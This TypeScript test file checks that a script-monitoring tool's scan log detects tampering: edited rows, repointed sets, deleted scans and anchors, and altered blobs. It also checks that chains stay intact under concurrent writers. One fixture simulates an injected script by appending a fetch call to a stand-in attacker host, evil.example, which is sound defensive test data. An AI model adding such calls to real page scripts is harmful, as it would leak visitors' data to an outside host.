// Store: the scan log is tamper-evident; editing a scan, an observation or a blob is found and named.

import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, it } from 'vitest';
import { planScan } from '../../src/plan/plan-scan.js';
import { openStore, type Store } from '../../src/store/open-store.js';
import { APP, healthyShop, INLINE_A, INLINE_B, LIB, pageCapture, script } from '../fixtures/captures.js';
import { tempProject } from '../fixtures/cli.js';
import { rawSql, tamper, TEST_DIALECT, testDatabase } from '../fixtures/test-database.js';
import type { ScriptCapture } from '../../src/capture/types.js';

async function scanned(path?: string): Promise<Store> {
  const store = await openStore(path ?? await testDatabase(tempProject('sw-chain-')));
  const scan = async (capture = healthyShop()) => store.scans.applyPlan(planScan(capture, await store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
  await scan();
  await store.alerts.approveAll({ by: 'alice', note: 'baseline', at: '2026-11-22T09:00:00.000Z' });
  await scan(pageCapture([script({ kind: 'external', url: APP.url, body: `${APP.body}\nfetch("https://evil.example/c")` }), LIB, INLINE_A, INLINE_B]));
  await scan(healthyShop({ outcome: { ok: false, code: 'PAGE_TIMEOUT', reason: 'slow' } }));
  await scan();
  return store;
}

describe('scan chain', () => {
  it('verifies an untouched store, and alert decisions do not break it', async () => {
    const store = await scanned();
    const alert = (await store.alerts.list({ status: 'open' }))[0]!;
    await store.alerts.decide([alert.id], 'approved', { by: 'bob', note: 'ok', at: '2026-11-22T10:00:00.000Z' });
    const report = await store.scans.verify();
    assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
    assert.equal(report.scans, 4);
    assert.ok(report.blobs > 5);
    await store.close();
  });

  it('names the first scan whose row was edited', async () => {
    const store = await scanned();
    await rawSql(store).prepare('UPDATE scans SET http_status = 302 WHERE id = 2').run();
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #2 .* does not match its hash/);
    await store.close();
  });

  it('finds an observation pointed at other content, a scan pointed at another set, and a removed scan', async () => {
    const store = await scanned();
    // Scan 4 saw what scan 1 saw: they share one set, and an edit of it breaks the first scan that points at it.
    assert.equal((await rawSql(store).prepare<[], { n: number }>('SELECT COUNT(DISTINCT set_id) AS n FROM scans WHERE id IN (1, 4)').get())!.n, 1);
    await rawSql(store).prepare(`UPDATE set_scripts SET blob_id = (SELECT MAX(id) FROM blobs)
      WHERE set_id = (SELECT set_id FROM scans WHERE id = 4) AND script_id = (SELECT MIN(script_id) FROM set_scripts WHERE set_id = (SELECT set_id FROM scans WHERE id = 4) AND blob_id IS NOT NULL)`).run();
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^scan #1 .* does not match its hash/);
    await store.close();
    const repointed = await scanned();
    await rawSql(repointed).prepare('UPDATE scans SET set_id = (SELECT set_id FROM scans WHERE id = 2) WHERE id = 4').run();
    assert.match((await repointed.scans.verify()).firstBreak?.reason ?? '', /^scan #4 .* does not match its hash/);
    await repointed.close();
    const other = await scanned();
    await rawSql(other).prepare('DELETE FROM scans WHERE id = 2').run();
    assert.match((await other.scans.verify()).firstBreak?.reason ?? '', /^scan #3 .* is scan 3 of its chain, where scan 2 should be: scan 2 of checkout \(desktop\) were removed/);
    await other.close();
  });

  it('shows removed newest scans by the chain head, and by an anchor when the head was rewritten too', async () => {
    const store = await scanned();
    const anchored = await store.scans.anchor('2026-11-22T12:00:00.000Z');
    assert.deepEqual([anchored?.id, anchored?.chains, anchored?.hash.length], [1, 1, 64]);
    assert.equal(await store.scans.anchor('2026-11-22T12:05:00.000Z'), null, 'nothing moved since');
    const report = await store.scans.verify();
    assert.deepEqual([report.ok, report.chains, report.anchors], [true, 1, 1]);
    await rawSql(store).prepare('DELETE FROM scans WHERE id = 4').run();
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^the chain of checkout \(desktop\) ends at scan 3 but its head is scan 4: its newest scans were removed/);
    // Someone who also rewrites the head to the scan now newest: the anchor still names the removed scan.
    await rawSql(store).prepare("UPDATE chain_heads SET seq = 3, hash = (SELECT record_hash FROM scans WHERE id = 3)").run();
    const broken = await store.scans.verify();
    assert.equal(broken.firstBreak?.kind, 'anchor');
    assert.match(broken.firstBreak!.reason, /^anchor #1 \(2026-11-22T12:00:00.000Z\) lists scan 4 of checkout \(desktop\), which is missing/);
    await store.close();
  });

  it('finds an anchor removed from the middle or edited', async () => {
    const path = await testDatabase(tempProject('sw-chain-'));
    const store = await scanned(path);
    const again = async (minute: number) => {
      const capture = healthyShop({ finishedAt: `2026-11-22T13:${String(minute).padStart(2, '0')}:00.000Z` });
      await store.scans.applyPlan(planScan(capture, await store.scans.readBaseline(capture.target, capture.profile), { removalThreshold: 2 }));
      await store.scans.anchor(capture.finishedAt);
    };
    for (const minute of [0, 5, 10]) await again(minute);
    assert.equal((await store.scans.verify()).anchors, 3);
    await tamper(path, "UPDATE chain_anchors SET at = '2026-11-22T13:06:00.000Z' WHERE id = 2");
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^anchor #2 .* does not match its hash/);
    await tamper(path, 'DELETE FROM chain_anchors WHERE id = 2');
    assert.match((await store.scans.verify()).firstBreak?.reason ?? '', /^anchor #3 .* does not follow the anchor before it/);
    await store.close();
  });

  it('keeps one gapless chain per target and profile when two processes write at once', async () => {
    const path = await testDatabase(tempProject('sw-chain-'));
    // Two stores on PostgreSQL; on SQLite one (its connection is synchronous: a second one in the same process would
    // wait for the first while holding up the event loop the first needs to finish).
    const a = await openStore(path);
    const b = TEST_DIALECT === 'postgres' ? await openStore(path) : a;
    const scanOf = async (store: Store, target: string, profile: string, i: number) => {
      const capture = healthyShop({ target, profile, finishedAt: new Date(Date.UTC(2026, 10, 22, 0, i)).toISOString() });
      await store.scans.applyPlan(planScan(capture, await store.scans.readBaseline(target, profile), { removalThreshold: 2 }));
    };
    const pages = [['checkout', 'desktop'], ['checkout', 'mobile'], ['cart', 'desktop']] as const;
    // Each writer scans every page in its own order, all at once: commits of the two interleave.
    await Promise.all([a, b].map((store, w) => Promise.all(Array.from({ length: 12 }, (_, i) => {
      const [target, profile] = pages[(i + w) % pages.length]!;
      return scanOf(store, target, profile, i * 2 + w);
    }))));
    const chains = await rawSql(a).prepare<[], { key: string; seqs: string }>(
      "SELECT t.name || '/' || s.profile AS key, COUNT(*) AS n, MIN(s.chain_seq) || '-' || MAX(s.chain_seq) AS seqs FROM scans s JOIN targets t ON t.id = s.target_id GROUP BY t.name, s.profile ORDER BY 1",
    ).all();
    assert.deepEqual(chains.map((c) => [c.key, c.seqs]), [['cart/desktop', '1-8'], ['checkout/desktop', '1-8'], ['checkout/mobile', '1-8']]);
    const report = await a.scans.verify();
    assert.deepEqual([report.ok, report.scans, report.chains], [true, 24, 3], JSON.stringify(report.firstBreak));
    await Promise.all([...new Set([a, b])].map((store) => store.close()));
  });

  it('keeps verifying when another process prunes a set this one goes on pointing scans at', async () => {
    const path = await testDatabase(tempProject('sw-chain-'));
    const writer = await openStore(path);
    // A CDN answering from three addresses: three sets, whose scripts other than the library repeat.
    const scanAt = async (ip: string, day: number) => {
      const at = `2026-11-0${day}T00:00:00.000Z`;
      const capture = pageCapture([APP, { ...LIB, remoteIp: ip }, INLINE_A, INLINE_B].map((s): ScriptCapture => ({ ...s, headers: s.url ? { 'content-type': 'application/javascript' } : {} })), { finishedAt: at });
      await writer.scans.applyPlan(planScan(capture, await writer.scans.readBaseline('checkout', 'desktop'), { removalThreshold: 2 }), at);
    };
    await scanAt('192.0.2.1', 1);
    await scanAt('192.0.2.2', 2);
    await scanAt('192.0.2.3', 3);
    const pruner = await openStore(path);
    assert.ok((await pruner.scans.retain('2026-11-05T00:00:00.000Z', '2026-11-06T00:00:00.000Z')).observationsRemoved > 0);
    await pruner.close();
    // The writer read the middle set before it was pruned; its next scan of the same content points at it again.
    await scanAt('192.0.2.2', 7);
    const report = await writer.scans.verify();
    assert.equal(report.ok, true, JSON.stringify(report.firstBreak));
    await writer.close();
  });

  it('names a blob with a flipped byte', async () => {
    const store = await scanned();
    const blob = (await rawSql(store).prepare<[], { id: number; sha256: string; data: Buffer }>("SELECT id, sha256, data FROM blobs WHERE encoding = 'raw' ORDER BY id LIMIT 1").get())!;
    const data = Buffer.from(blob.data);
    data[0] = data[0]! ^ 0x01;
    await rawSql(store).prepare('UPDATE blobs SET data = ? WHERE id = ?').run(data, blob.id);
    const report = await store.scans.verify();
    assert.equal(report.ok, false);
    assert.equal(report.firstBreak?.kind, 'blob');
    assert.equal(report.firstBreak?.sha256, blob.sha256);
    assert.match(report.firstBreak!.reason, /does not match its SHA-256/);
    await store.close();
  });
});
